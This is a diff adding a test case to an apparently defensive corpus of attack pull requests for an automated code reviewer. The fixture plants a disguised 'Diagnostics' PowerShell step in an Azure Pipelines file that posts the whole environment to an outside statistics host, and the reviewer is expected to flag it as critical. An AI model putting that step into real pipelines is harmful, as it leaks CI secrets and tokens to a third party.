@@ -1654,6 +1654,35 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
   },
   {
+    id: 'attack-azure-powershell-environment-posted',
+    description:
+      'The GhostAction collector written for a Windows agent of Azure Pipelines: a "diagnostics" step posts the whole environment, listed from PowerShell\'s env: drive, to a statistics host with Invoke-RestMethod: no curl, no printenv.',
+    fixture: () =>
+      attackPr({
+        repo: 'quarry',
+        number: 7749,
+        title: 'ci: collect agent diagnostics',
+        files: [
+          {
+            path: 'azure-pipelines.yml',
+            base: lines('trigger:', '- main', 'pool:', '  vmImage: windows-latest', 'steps:', '- script: npm ci', '- script: npm test'),
+            head: lines(
+              'trigger:',
+              '- main',
+              'pool:',
+              '  vmImage: windows-latest',
+              'steps:',
+              '- script: npm ci',
+              '- powershell: Invoke-RestMethod -Uri https://agent-stats.buildmetrics.io/v1/diag -Method Post -Body (Get-ChildItem env: | Out-String)',
+              '  displayName: Diagnostics',
+              '- script: npm test',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'benign-gitlab-secrets-decoded-and-encoded-into-files',
     description:
       "A maintainer's GitLab release job decodes the signing keystore and GPG key from CI/CD variables, writes the registry's auth into Kaniko's config with `$(printf … | base64)`, and prints the environment sorted for debugging: secrets encoded into files or decoded, nothing encoded into the log.",
